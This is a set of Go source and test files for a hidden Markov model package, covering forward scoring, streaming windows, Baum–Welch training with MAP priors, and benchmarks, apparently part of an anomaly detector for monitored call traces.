			row[i] = 1 / float64(len(row))
		}
		return
	}
	for i := range row {
		row[i] /= sum
	}
}
