package hmm

import (
	"context"
	"errors"
	"math"
	"math/rand"
	"testing"
)

// TestStreamScorerMatchesBatch drives random streams through StreamScorer and
// checks every completed window's log probability against the batch forward
// pass — exact mode guarantees bit-identical scores, so the comparison is ==.
func TestStreamScorerMatchesBatch(t *testing.T) {
	r := rand.New(rand.NewSource(7))
	for _, tc := range []struct{ n, m, w, T int }{
		{1, 2, 3, 40},
		{4, 5, 2, 60},
		{9, 6, 15, 200},
		{33, 12, 15, 300},
	} {
		model := NewRandom(tc.n, tc.m, int64(tc.n*tc.m))
		st := model.NewScorer().NewStream(tc.w)
		obs := make([]int, tc.T)
		for i := range obs {
			obs[i] = r.Intn(tc.m)
		}
		completed := 0
		for i, o := range obs {
			got, done := st.Push(o)
			if i < tc.w-1 {
				if done {
					t.Fatalf("n=%d: window completed during warm-up at %d", tc.n, i)
				}
				continue
			}
			if !done {
				t.Fatalf("n=%d: no window completed at %d", tc.n, i)
			}
			completed++
			want, err := model.LogProb(obs[i-tc.w+1 : i+1])
			if err != nil {
				t.Fatal(err)
			}
			if got != want {
				t.Fatalf("n=%d w=%d t=%d: stream %v, batch %v (must be bit-identical)", tc.n, tc.w, i, got, want)
			}
		}
		if completed != tc.T-tc.w+1 {
			t.Fatalf("n=%d: %d windows completed, want %d", tc.n, completed, tc.T-tc.w+1)
		}
	}
}

// TestStreamScorerPartial checks the short-stream judgement used by
// Engine.Flush: before the first window completes, Partial covers the whole
// stream and matches the batch score of that prefix.
func TestStreamScorerPartial(t *testing.T) {
	model := NewRandom(6, 4, 3)
	st := model.NewScorer().NewStream(10)
	obs := []int{1, 3, 0, 2, 2, 1}
	for _, o := range obs {
		st.Push(o)
	}
	got, n := st.Partial()
	if n != len(obs) {
		t.Fatalf("Partial length %d, want %d", n, len(obs))
	}
	want, err := model.LogProb(obs)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(got-want) > 1e-9 {
		t.Fatalf("Partial = %v, batch = %v", got, want)
	}

	// Once a window has completed, there is no partial window left.
	for i := 0; i < 10; i++ {
		st.Push(0)
	}
	if _, n := st.Partial(); n != 0 {
		t.Fatalf("Partial after full window reports length %d", n)
	}

	// Reset starts a fresh stream.
	st.Reset()
	if _, n := st.Partial(); n != 0 {
		t.Fatal("Partial non-empty after Reset")
	}
	st.Push(2)
	got, n = st.Partial()
	want, _ = model.LogProb([]int{2})
	if n != 1 || math.Abs(got-want) > 1e-9 {
		t.Fatalf("post-reset Partial = (%v, %d), want (%v, 1)", got, n, want)
	}
}

// TestStreamScorerImpossibleWindow: a window containing a symbol no state can
// emit scores -Inf, like the batch pass, and the stream recovers afterwards.
func TestStreamScorerImpossibleWindow(t *testing.T) {
	model := New(3, 4)
	for i := 0; i < model.N; i++ {
		model.B[i][3] = 0 // symbol 3 unemittable
	}
	const w = 4
	st := model.NewScorer().NewStream(w)
	obs := []int{0, 1, 2, 3, 0, 1, 2, 0, 1, 2, 0}
	for i, o := range obs {
		got, done := st.Push(o)
		if i < w-1 {
			continue
		}
		if !done {
			t.Fatalf("no window at %d", i)
		}
		want, err := model.LogProb(obs[i-w+1 : i+1])
		if err != nil {
			t.Fatal(err)
		}
		switch {
		case math.IsInf(want, -1):
			if !math.IsInf(got, -1) {
				t.Fatalf("t=%d: stream %v, want -Inf", i, got)
			}
		case math.Abs(got-want) > 1e-9:
			t.Fatalf("t=%d: stream %v, batch %v", i, got, want)
		}
	}
}

func TestStreamScorerPanicsOnBadSymbol(t *testing.T) {
	st := New(2, 3).NewScorer().NewStream(2)
	defer func() {
		if recover() == nil {
			t.Fatal("out-of-range symbol did not panic")
		}
	}()
	st.Push(3)
}

// TestTrainContextCancelled: a cancelled context aborts Baum–Welch and
// surfaces ctx.Err().
func TestTrainContextCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	m := NewRandom(4, 3, 1)
	seqs := [][]int{{0, 1, 2, 0, 1}, {2, 1, 0, 2}}
	_, err := m.TrainContext(ctx, seqs, TrainOptions{MaxIters: 5})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("TrainContext error = %v, want context.Canceled", err)
	}
	// The uncancelled path still trains.
	if _, err := m.TrainContext(context.Background(), seqs, TrainOptions{MaxIters: 2}); err != nil {
		t.Fatalf("TrainContext: %v", err)
	}
}
