package hmm

import (
	"math/rand"
	"testing"
)

func benchModel(n, m int) (*Model, []int) {
	model := NewRandom(n, m, 1)
	r := rand.New(rand.NewSource(2))
	obs := make([]int, 15)
	for i := range obs {
		obs[i] = r.Intn(m)
	}
	return model, obs
}

// BenchmarkLogProb measures window scoring — the detection phase's hot path
// (one evaluation per monitored call).
func BenchmarkLogProb(b *testing.B) {
	for _, n := range []int{50, 200, 450} {
		model, obs := benchModel(n, 40)
		b.Run(itoa(n)+"states", func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				if _, err := model.LogProb(obs); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkBaumWelchIteration measures one training pass over 100 windows.
func BenchmarkBaumWelchIteration(b *testing.B) {
	model, _ := benchModel(100, 40)
	r := rand.New(rand.NewSource(3))
	seqs := make([][]int, 100)
	for i := range seqs {
		s := make([]int, 15)
		for j := range s {
			s[j] = r.Intn(40)
		}
		seqs[i] = s
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m := model.Clone()
		if _, err := m.Train(seqs, TrainOptions{MaxIters: 1}); err != nil {
			b.Fatal(err)
		}
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf []byte
	for n > 0 {
		buf = append([]byte{byte('0' + n%10)}, buf...)
		n /= 10
	}
	return string(buf)
}
