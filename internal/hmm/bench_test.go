package hmm

import (
	"math/rand"
	"testing"
)

func benchModel(n, m int) (*Model, []int) {
	model := NewRandom(n, m, 1)
	r := rand.New(rand.NewSource(2))
	obs := make([]int, 15)
	for i := range obs {
		obs[i] = r.Intn(m)
	}
	return model, obs
}

// BenchmarkLogProb measures window scoring — the detection phase's hot path
// (one evaluation per monitored call).
func BenchmarkLogProb(b *testing.B) {
	for _, n := range []int{50, 200, 450} {
		model, obs := benchModel(n, 40)
		b.Run(itoa(n)+"states", func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				if _, err := model.LogProb(obs); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkScorerLogProb measures the flat-kernel batch scorer over the same
// windows — the fast path behind Profile.Score and threshold scans.
func BenchmarkScorerLogProb(b *testing.B) {
	for _, n := range []int{50, 200, 450} {
		model, obs := benchModel(n, 40)
		s := model.NewScorer()
		b.Run(itoa(n)+"states", func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				if _, err := s.LogProb(obs); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkStreamPush measures the incremental sliding-window scorer — the
// per-call cost of the detection hot path with all windows in flight — in
// exact mode and with top-K pruning. ns/op is per pushed symbol.
func BenchmarkStreamPush(b *testing.B) {
	for _, mode := range []ScorerMode{ScorerExact, ScorerTopK(8)} {
		for _, n := range []int{50, 200, 450} {
			model, _ := benchModel(n, 40)
			s := model.NewScorerMode(mode)
			st := s.NewStream(15)
			r := rand.New(rand.NewSource(4))
			obs := make([]int, 4096)
			for i := range obs {
				obs[i] = r.Intn(40)
			}
			b.Run(mode.String()+"/"+itoa(n)+"states", func(b *testing.B) {
				b.ReportAllocs()
				for i := 0; i < b.N; i++ {
					st.Push(obs[i&4095])
				}
			})
		}
	}
}

// BenchmarkStreamPushBatch measures the batched variant (64 symbols per
// call); ns/op is still per symbol.
func BenchmarkStreamPushBatch(b *testing.B) {
	model, _ := benchModel(50, 40)
	st := model.NewScorer().NewStream(15)
	r := rand.New(rand.NewSource(5))
	obs := make([]int, 64)
	for i := range obs {
		obs[i] = r.Intn(40)
	}
	scores := make([]float64, len(obs))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i += len(obs) {
		st.PushBatch(obs, scores, nil)
	}
}

// BenchmarkBaumWelchIteration measures one training pass over 100 windows.
func BenchmarkBaumWelchIteration(b *testing.B) {
	model, _ := benchModel(100, 40)
	r := rand.New(rand.NewSource(3))
	seqs := make([][]int, 100)
	for i := range seqs {
		s := make([]int, 15)
		for j := range s {
			s[j] = r.Intn(40)
		}
		seqs[i] = s
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m := model.Clone()
		if _, err := m.Train(seqs, TrainOptions{MaxIters: 1}); err != nil {
			b.Fatal(err)
		}
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf []byte
	for n > 0 {
		buf = append([]byte{byte('0' + n%10)}, buf...)
		n /= 10
	}
	return string(buf)
}
