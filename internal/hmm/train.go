package hmm

import (
	"context"
	"fmt"
	"math"
)

// TrainOptions tune Baum–Welch.
type TrainOptions struct {
	// MaxIters bounds re-estimation rounds (default 30).
	MaxIters int
	// Tol is the minimum per-iteration improvement of the average training
	// log-likelihood to continue (default 1e-4).
	Tol float64
	// Holdout is the paper's converge sub-dataset (CSDS, §V-B): when set,
	// training stops as soon as an iteration fails to improve the average
	// holdout log-likelihood, independent of training progress.
	Holdout [][]int
	// SmoothFloor is the probability floor applied after each iteration
	// (default 1e-6).
	SmoothFloor float64
	// PriorWeight, when positive, makes re-estimation MAP instead of ML: the
	// model's pre-training parameters act as a Dirichlet prior with this
	// pseudo-count mass per row. For CTM-initialised models this is the
	// mechanism that preserves statically known-feasible transitions that
	// the (possibly subsampled) trace corpus never exercised — without it,
	// one Baum–Welch pass drives every unexercised legitimate path to the
	// smoothing floor and the detector flags it forever.
	PriorWeight float64
}

func (o TrainOptions) withDefaults() TrainOptions {
	if o.MaxIters <= 0 {
		o.MaxIters = 30
	}
	if o.Tol <= 0 {
		o.Tol = 1e-4
	}
	if o.SmoothFloor <= 0 {
		o.SmoothFloor = 1e-6
	}
	return o
}

// TrainResult reports a training run.
type TrainResult struct {
	// Iterations actually executed.
	Iterations int
	// TrainLogLik is the average training log-likelihood after each
	// iteration.
	TrainLogLik []float64
	// HoldoutLogLik parallels TrainLogLik when a holdout was supplied.
	HoldoutLogLik []float64
	// StoppedByHoldout reports whether the CSDS criterion ended training.
	StoppedByHoldout bool
}

// Train runs multi-sequence Baum–Welch re-estimation in place.
func (m *Model) Train(seqs [][]int, opts TrainOptions) (*TrainResult, error) {
	return m.TrainContext(context.Background(), seqs, opts)
}

// TrainContext is Train with cancellation: the context is checked before
// every re-estimation iteration, and a cancelled run returns ctx.Err()
// (wrapped) with the model left at its last completed iteration.
func (m *Model) TrainContext(ctx context.Context, seqs [][]int, opts TrainOptions) (*TrainResult, error) {
	opts = opts.withDefaults()
	var nonEmpty [][]int
	for _, s := range seqs {
		if len(s) > 0 {
			nonEmpty = append(nonEmpty, s)
		}
	}
	if len(nonEmpty) == 0 {
		return nil, ErrNoData
	}
	for _, s := range nonEmpty {
		for _, o := range s {
			if o < 0 || o >= m.M {
				return nil, fmt.Errorf("%w: %d (M=%d)", ErrSymbols, o, m.M)
			}
		}
	}
	m.Smooth(opts.SmoothFloor)

	var prior *Model
	if opts.PriorWeight > 0 {
		prior = m.Clone()
	}

	res := &TrainResult{}
	prevTrain := math.Inf(-1)
	bestHold := math.Inf(-1)
	holdBad := 0

	for iter := 0; iter < opts.MaxIters; iter++ {
		if err := ctx.Err(); err != nil {
			return res, fmt.Errorf("hmm: training cancelled after %d iterations: %w", res.Iterations, err)
		}
		trainLL := m.reestimate(nonEmpty, prior, opts.PriorWeight)
		m.Smooth(opts.SmoothFloor)
		res.Iterations = iter + 1
		res.TrainLogLik = append(res.TrainLogLik, trainLL)

		if len(opts.Holdout) > 0 {
			holdLL := m.avgLogProb(opts.Holdout)
			res.HoldoutLogLik = append(res.HoldoutLogLik, holdLL)
			// CSDS stopping with patience: a single noisy dip must not end
			// training while the model is still far from converged, so stop
			// only after two consecutive non-improving iterations (and never
			// before the third iteration).
			if holdLL > bestHold+1e-9 {
				bestHold = holdLL
				holdBad = 0
			} else {
				holdBad++
				if holdBad >= 2 && iter >= 2 {
					res.StoppedByHoldout = true
					return res, nil
				}
			}
		}
		if trainLL-prevTrain < opts.Tol && iter > 0 {
			return res, nil
		}
		prevTrain = trainLL
	}
	return res, nil
}

// Retrain is the warm-start entry point for online profile refresh: it
// trains a COPY of the model on seqs and returns it, leaving the receiver —
// which may be serving live detection through shared Scorer snapshots —
// untouched. The copy starts from the current parameters, and unless the
// caller overrides PriorWeight the current model also acts as the MAP prior,
// so behaviour that recent traffic no longer exercises decays gracefully
// toward the prior instead of collapsing to the smoothing floor after one
// re-estimation pass. The receiver's provenance (its original CTM
// initialisation and earlier training) is thereby chained through every
// retraining round.
func (m *Model) Retrain(ctx context.Context, seqs [][]int, opts TrainOptions) (*Model, *TrainResult, error) {
	if opts.PriorWeight == 0 {
		opts.PriorWeight = 2
	}
	next := m.Clone()
	res, err := next.TrainContext(ctx, seqs, opts)
	if err != nil {
		return nil, res, err
	}
	return next, res, nil
}

// avgLogProb returns the mean log-likelihood over sequences.
func (m *Model) avgLogProb(seqs [][]int) float64 {
	var total float64
	n := 0
	for _, s := range seqs {
		if len(s) == 0 {
			continue
		}
		ll, err := m.LogProb(s)
		if err != nil {
			continue
		}
		total += ll
		n++
	}
	if n == 0 {
		return math.Inf(-1)
	}
	return total / float64(n)
}

// reestimate performs one scaled Baum–Welch E+M step over all sequences and
// returns the average log-likelihood under the pre-update parameters. A
// non-nil prior contributes priorW pseudo-counts per row (MAP estimation).
func (m *Model) reestimate(seqs [][]int, prior *Model, priorW float64) float64 {
	n, mm := m.N, m.M
	piAcc := make([]float64, n)
	aNum := alloc(n, n)
	aDen := make([]float64, n)
	bNum := alloc(n, mm)
	bDen := make([]float64, n)
	if prior != nil && priorW > 0 {
		for i := 0; i < n; i++ {
			piAcc[i] = priorW * prior.Pi[i]
			aDen[i] = priorW
			bDen[i] = priorW
			for j := 0; j < n; j++ {
				aNum[i][j] = priorW * prior.A[i][j]
			}
			for k := 0; k < mm; k++ {
				bNum[i][k] = priorW * prior.B[i][k]
			}
		}
	}
	var totalLL float64

	for _, obs := range seqs {
		T := len(obs)
		alpha := alloc(T, n)
		beta := alloc(T, n)
		scale := make([]float64, T)

		// Scaled forward.
		var s float64
		for i := 0; i < n; i++ {
			alpha[0][i] = m.Pi[i] * m.B[i][obs[0]]
			s += alpha[0][i]
		}
		if s == 0 {
			s = math.SmallestNonzeroFloat64
		}
		scale[0] = s
		for i := 0; i < n; i++ {
			alpha[0][i] /= s
		}
		for t := 1; t < T; t++ {
			s = 0
			for j := 0; j < n; j++ {
				var v float64
				for i := 0; i < n; i++ {
					v += alpha[t-1][i] * m.A[i][j]
				}
				alpha[t][j] = v * m.B[j][obs[t]]
				s += alpha[t][j]
			}
			if s == 0 {
				s = math.SmallestNonzeroFloat64
			}
			scale[t] = s
			for j := 0; j < n; j++ {
				alpha[t][j] /= s
			}
		}
		for t := 0; t < T; t++ {
			totalLL += math.Log(scale[t])
		}

		// Scaled backward with the forward scale factors.
		for i := 0; i < n; i++ {
			beta[T-1][i] = 1 / scale[T-1]
		}
		for t := T - 2; t >= 0; t-- {
			for i := 0; i < n; i++ {
				var v float64
				for j := 0; j < n; j++ {
					v += m.A[i][j] * m.B[j][obs[t+1]] * beta[t+1][j]
				}
				beta[t][i] = v / scale[t]
			}
		}

		// Accumulate γ and ξ.
		gamma := make([]float64, n)
		for t := 0; t < T; t++ {
			var norm float64
			for i := 0; i < n; i++ {
				gamma[i] = alpha[t][i] * beta[t][i]
				norm += gamma[i]
			}
			if norm == 0 {
				continue
			}
			for i := 0; i < n; i++ {
				g := gamma[i] / norm
				if t == 0 {
					piAcc[i] += g
				}
				bNum[i][obs[t]] += g
				bDen[i] += g
				if t < T-1 {
					aDen[i] += g
				}
			}
			if t < T-1 {
				var xiNorm float64
				for i := 0; i < n; i++ {
					for j := 0; j < n; j++ {
						xiNorm += alpha[t][i] * m.A[i][j] * m.B[j][obs[t+1]] * beta[t+1][j]
					}
				}
				if xiNorm == 0 {
					continue
				}
				for i := 0; i < n; i++ {
					ai := alpha[t][i]
					if ai == 0 {
						continue
					}
					for j := 0; j < n; j++ {
						aNum[i][j] += ai * m.A[i][j] * m.B[j][obs[t+1]] * beta[t+1][j] / xiNorm
					}
				}
			}
		}
	}

	// M step. Rows with no evidence keep their previous values.
	var piSum float64
	for i := 0; i < n; i++ {
		piSum += piAcc[i]
	}
	if piSum > 0 {
		for i := 0; i < n; i++ {
			m.Pi[i] = piAcc[i] / piSum
		}
	}
	for i := 0; i < n; i++ {
		if aDen[i] > 0 {
			for j := 0; j < n; j++ {
				m.A[i][j] = aNum[i][j] / aDen[i]
			}
		}
		if bDen[i] > 0 {
			for k := 0; k < mm; k++ {
				m.B[i][k] = bNum[i][k] / bDen[i]
			}
		}
	}
	return totalLL / float64(len(seqs))
}
