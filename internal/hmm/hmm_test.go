package hmm

import (
	"errors"
	"math"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

// twoState builds a crafted 2-state model: state 0 emits symbol 0, state 1
// emits symbol 1; transitions strongly favour staying.
func twoState() *Model {
	m := New(2, 2)
	m.Pi = []float64{1, 0}
	m.A = [][]float64{{0.9, 0.1}, {0.1, 0.9}}
	m.B = [][]float64{{0.95, 0.05}, {0.05, 0.95}}
	return m
}

func TestLogProbHandComputed(t *testing.T) {
	m := twoState()
	// P(obs=[0]) = π0·b0(0) + π1·b1(0) = 1·0.95 = 0.95.
	ll, err := m.LogProb([]int{0})
	if err != nil {
		t.Fatalf("LogProb: %v", err)
	}
	if want := math.Log(0.95); math.Abs(ll-want) > 1e-12 {
		t.Errorf("LogProb([0]) = %v, want %v", ll, want)
	}
	// P([0,0]) = Σ_j (α1(i)a_ij) b_j(0):
	// α1 = [0.95, 0]; α2(0) = 0.95·0.9·0.95 = 0.81225; α2(1) = 0.95·0.1·0.05.
	want := math.Log(0.95*0.9*0.95 + 0.95*0.1*0.05)
	ll, err = m.LogProb([]int{0, 0})
	if err != nil {
		t.Fatalf("LogProb: %v", err)
	}
	if math.Abs(ll-want) > 1e-12 {
		t.Errorf("LogProb([0,0]) = %v, want %v", ll, want)
	}
}

func TestLogProbEdgeCases(t *testing.T) {
	m := twoState()
	if ll, err := m.LogProb(nil); err != nil || ll != 0 {
		t.Errorf("LogProb(nil) = (%v, %v), want (0, nil)", ll, err)
	}
	if _, err := m.LogProb([]int{2}); !errors.Is(err, ErrSymbols) {
		t.Errorf("out-of-range symbol error = %v", err)
	}
	if _, err := m.LogProb([]int{-1}); !errors.Is(err, ErrSymbols) {
		t.Errorf("negative symbol error = %v", err)
	}
	// Impossible sequence under a deterministic model.
	d := New(1, 2)
	d.Pi = []float64{1}
	d.A = [][]float64{{1}}
	d.B = [][]float64{{1, 0}}
	ll, err := d.LogProb([]int{1})
	if err != nil || !math.IsInf(ll, -1) {
		t.Errorf("impossible sequence = (%v, %v), want -Inf", ll, err)
	}
}

func TestViterbiRecoversStates(t *testing.T) {
	m := twoState()
	path, ll, err := m.Viterbi([]int{0, 0, 1, 1, 1, 0})
	if err != nil {
		t.Fatalf("Viterbi: %v", err)
	}
	if want := []int{0, 0, 1, 1, 1, 0}; !reflect.DeepEqual(path, want) {
		t.Errorf("path = %v, want %v", path, want)
	}
	if math.IsInf(ll, 0) || ll >= 0 {
		t.Errorf("viterbi logprob = %v", ll)
	}
	if p, _, err := m.Viterbi(nil); err != nil || p != nil {
		t.Errorf("Viterbi(nil) = %v, %v", p, err)
	}
	if _, _, err := m.Viterbi([]int{5}); !errors.Is(err, ErrSymbols) {
		t.Errorf("Viterbi symbol error = %v", err)
	}
}

func TestValidate(t *testing.T) {
	if err := twoState().Validate(1e-9); err != nil {
		t.Errorf("valid model rejected: %v", err)
	}
	if err := NewRandom(5, 7, 3).Validate(1e-9); err != nil {
		t.Errorf("random model rejected: %v", err)
	}
	bad := twoState()
	bad.A[0][0] = 0.5 // row no longer sums to 1
	if err := bad.Validate(1e-9); !errors.Is(err, ErrShape) {
		t.Errorf("broken model accepted: %v", err)
	}
	neg := twoState()
	neg.B[0][0] = -0.1
	if err := neg.Validate(1e-9); !errors.Is(err, ErrShape) {
		t.Errorf("negative model accepted: %v", err)
	}
}

// sample draws sequences from a known model.
func sample(m *Model, r *rand.Rand, T int) []int {
	draw := func(dist []float64) int {
		x := r.Float64()
		var c float64
		for i, p := range dist {
			c += p
			if x < c {
				return i
			}
		}
		return len(dist) - 1
	}
	obs := make([]int, T)
	s := draw(m.Pi)
	obs[0] = draw(m.B[s])
	for t := 1; t < T; t++ {
		s = draw(m.A[s])
		obs[t] = draw(m.B[s])
	}
	return obs
}

// TestBaumWelchImprovesLikelihood: training on sequences from a ground-truth
// model raises their likelihood monotonically (up to smoothing noise) and
// ends with a valid model.
func TestBaumWelchImprovesLikelihood(t *testing.T) {
	truth := twoState()
	r := rand.New(rand.NewSource(11))
	var seqs [][]int
	for i := 0; i < 40; i++ {
		seqs = append(seqs, sample(truth, r, 25))
	}

	m := NewRandom(2, 2, 5)
	res, err := m.Train(seqs, TrainOptions{MaxIters: 25})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	if res.Iterations == 0 || len(res.TrainLogLik) != res.Iterations {
		t.Fatalf("result = %+v", res)
	}
	for i := 1; i < len(res.TrainLogLik); i++ {
		if res.TrainLogLik[i] < res.TrainLogLik[i-1]-1e-6 {
			t.Errorf("likelihood decreased at iter %d: %v -> %v",
				i, res.TrainLogLik[i-1], res.TrainLogLik[i])
		}
	}
	if err := m.Validate(1e-6); err != nil {
		t.Errorf("trained model invalid: %v", err)
	}

	// The trained model should clearly prefer in-distribution data over an
	// anti-pattern (rapid alternation is rare under sticky transitions).
	good, _ := m.LogProb(sample(truth, r, 25))
	bad, _ := m.LogProb([]int{0, 1, 0, 1, 0, 1, 0, 1, 0, 1, 0, 1, 0, 1, 0, 1, 0, 1, 0, 1, 0, 1, 0, 1, 0})
	if good <= bad {
		t.Errorf("trained model does not separate: good=%v bad=%v", good, bad)
	}
}

func TestTrainErrors(t *testing.T) {
	m := New(2, 2)
	if _, err := m.Train(nil, TrainOptions{}); !errors.Is(err, ErrNoData) {
		t.Errorf("no data error = %v", err)
	}
	if _, err := m.Train([][]int{{}}, TrainOptions{}); !errors.Is(err, ErrNoData) {
		t.Errorf("empty sequences error = %v", err)
	}
	if _, err := m.Train([][]int{{0, 9}}, TrainOptions{}); !errors.Is(err, ErrSymbols) {
		t.Errorf("bad symbol error = %v", err)
	}
}

func TestHoldoutEarlyStopping(t *testing.T) {
	truth := twoState()
	r := rand.New(rand.NewSource(21))
	var train, hold [][]int
	for i := 0; i < 30; i++ {
		train = append(train, sample(truth, r, 20))
	}
	for i := 0; i < 8; i++ {
		hold = append(hold, sample(truth, r, 20))
	}
	m := NewRandom(2, 2, 9)
	res, err := m.Train(train, TrainOptions{MaxIters: 200, Tol: 1e-12, Holdout: hold})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	if res.Iterations >= 200 {
		t.Errorf("holdout never stopped training (%d iters)", res.Iterations)
	}
	if len(res.HoldoutLogLik) != res.Iterations {
		t.Errorf("holdout history length %d != iters %d", len(res.HoldoutLogLik), res.Iterations)
	}
}

func TestCloneIndependence(t *testing.T) {
	m := twoState()
	cp := m.Clone()
	cp.A[0][0] = 0.123
	cp.Pi[0] = 0.5
	cp.B[1][1] = 0.7
	if m.A[0][0] != 0.9 || m.Pi[0] != 1 || m.B[1][1] != 0.95 {
		t.Error("clone mutation leaked into original")
	}
}

func TestSmoothRemovesZeros(t *testing.T) {
	m := New(2, 3)
	m.Pi = []float64{1, 0}
	m.A = [][]float64{{1, 0}, {0, 1}}
	m.B = [][]float64{{1, 0, 0}, {0, 1, 0}}
	m.Smooth(1e-4)
	if err := m.Validate(1e-9); err != nil {
		t.Fatalf("smoothed model invalid: %v", err)
	}
	for i := 0; i < 2; i++ {
		for k := 0; k < 3; k++ {
			if m.B[i][k] <= 0 {
				t.Errorf("B[%d][%d] = %v after smoothing", i, k, m.B[i][k])
			}
		}
	}
	// A degenerate all-zero row becomes uniform.
	z := New(2, 2)
	z.A[0] = []float64{0, 0}
	z.Smooth(0)
	if z.A[0][0] != 0.5 || z.A[0][1] != 0.5 {
		t.Errorf("zero row smoothed to %v", z.A[0])
	}
}

// TestLogProbNeverPositive is a quick-check property: any observation
// sequence over a valid model has log-likelihood ≤ 0.
func TestLogProbNeverPositive(t *testing.T) {
	m := NewRandom(4, 6, 17)
	f := func(raw []uint8) bool {
		obs := make([]int, len(raw))
		for i, b := range raw {
			obs[i] = int(b) % m.M
		}
		ll, err := m.LogProb(obs)
		if err != nil {
			return false
		}
		return ll <= 1e-12
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// TestTrainedRowsStochastic is a quick-check property: after training on
// arbitrary data, all rows remain stochastic.
func TestTrainedRowsStochastic(t *testing.T) {
	f := func(raw []uint8, seed int64) bool {
		if len(raw) < 4 {
			return true
		}
		obs := make([]int, len(raw))
		for i, b := range raw {
			obs[i] = int(b) % 3
		}
		m := NewRandom(3, 3, seed)
		if _, err := m.Train([][]int{obs}, TrainOptions{MaxIters: 5}); err != nil {
			return false
		}
		return m.Validate(1e-6) == nil
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

// TestMAPPriorPreservesUnexercisedTransitions is the property MAP training
// exists for: a transition present in the initial model but absent from the
// training data must keep substantial probability, where ML training would
// floor it.
func TestMAPPriorPreservesUnexercisedTransitions(t *testing.T) {
	// Initial model: state 0 may go to 1 or 2 equally; training data only
	// ever exercises 0→1 (observations 0 then 1; symbol 2 never follows 0).
	build := func() *Model {
		m := New(3, 3)
		m.Pi = []float64{1, 0, 0}
		m.A = [][]float64{{0, 0.5, 0.5}, {1, 0, 0}, {1, 0, 0}}
		m.B = [][]float64{{1, 0, 0}, {0, 1, 0}, {0, 0, 1}}
		return m
	}
	seqs := [][]int{{0, 1, 0, 1, 0, 1}, {0, 1, 0, 1}}

	ml := build()
	if _, err := ml.Train(seqs, TrainOptions{MaxIters: 10}); err != nil {
		t.Fatal(err)
	}
	mp := build()
	if _, err := mp.Train(seqs, TrainOptions{MaxIters: 10, PriorWeight: 2}); err != nil {
		t.Fatal(err)
	}

	if ml.A[0][2] > 1e-3 {
		t.Errorf("ML kept A[0][2] = %v — expected it floored", ml.A[0][2])
	}
	if mp.A[0][2] < 0.05 {
		t.Errorf("MAP lost the unexercised transition: A[0][2] = %v", mp.A[0][2])
	}
	// Both still explain the training data.
	for _, m := range []*Model{ml, mp} {
		if ll, _ := m.LogProb(seqs[0]); ll < -6 {
			t.Errorf("trained model explains data poorly: %v", ll)
		}
	}
	// And the statically feasible sequence 0,2 stays plausible under MAP.
	mlLL, _ := ml.LogProb([]int{0, 2})
	mpLL, _ := mp.LogProb([]int{0, 2})
	if mpLL <= mlLL {
		t.Errorf("MAP does not rate the feasible path higher: %v vs %v", mpLL, mlLL)
	}
}
