package hmm

import (
	"math"
	"math/rand"
	"sort"
	"testing"
)

func TestScorerModeBasics(t *testing.T) {
	if !ScorerExact.Exact() || ScorerExact.TopK() != 0 || ScorerExact.String() != "exact" {
		t.Errorf("ScorerExact = %+v %q", ScorerExact, ScorerExact.String())
	}
	m := ScorerTopK(8)
	if m.Exact() || m.TopK() != 8 || m.String() != "topk:8" {
		t.Errorf("ScorerTopK(8) = %+v %q", m, m.String())
	}
	if ScorerTopK(3) != ScorerTopK(3) || ScorerTopK(3) == ScorerTopK(4) {
		t.Error("ScorerMode comparability broken")
	}
	defer func() {
		if recover() == nil {
			t.Error("ScorerTopK(0) did not panic")
		}
	}()
	ScorerTopK(0)
}

// sampleObs draws a length-T observation sequence from the model itself —
// the regime detection streams live in, where the bound stays informative.
func sampleObs(m *Model, r *rand.Rand, T int) []int {
	draw := func(dist []float64) int {
		u := r.Float64()
		var c float64
		for i, p := range dist {
			c += p
			if u <= c {
				return i
			}
		}
		return len(dist) - 1
	}
	obs := make([]int, T)
	state := draw(m.Pi)
	obs[0] = draw(m.B[state])
	for t := 1; t < T; t++ {
		state = draw(m.A[state])
		obs[t] = draw(m.B[state])
	}
	return obs
}

// TestTopKErrorWithinBound is the bound-soundness property test: across
// CTM-like near-sparse models, the pruned score never differs from the exact
// score by more than the reported bound. The slack term only absorbs
// floating-point rounding of the two pipelines; the bound itself must do the
// real work. Observations are sampled from the model — on wildly improbable
// streams the relative bound honestly reports itself vacuous (+Inf), which a
// separate tally keeps from hiding a broken bound.
func TestTopKErrorWithinBound(t *testing.T) {
	r := rand.New(rand.NewSource(23))
	checked := 0
	for trial := 0; trial < 60; trial++ {
		n := 2 + r.Intn(50)
		m := NewRandom(n, 2+r.Intn(10), r.Int63())
		sharpen(m, r)
		m.Smooth(1e-6) // CTM initialisation smooths the same way
		// Pick k the way a user should: small enough to prune, large enough
		// that every row keeps nearly all of its mass. A few trials use an
		// arbitrary k to also exercise the vacuous-bound reporting.
		k := coveringK(m, 1e-4)
		if trial%5 == 0 {
			k = 1 + r.Intn(n)
		}
		sp := m.NewScorerMode(ScorerTopK(k))
		se := m.NewScorer()

		var obs []int
		if trial%4 == 0 {
			obs = make([]int, 2+r.Intn(25))
			for i := range obs {
				obs[i] = r.Intn(m.M)
			}
		} else {
			obs = sampleObs(m, r, 2+r.Intn(25))
		}
		exact, err := se.LogProb(obs)
		if err != nil {
			t.Fatalf("exact LogProb: %v", err)
		}
		approx, bound, err := sp.LogProbBound(obs)
		if err != nil {
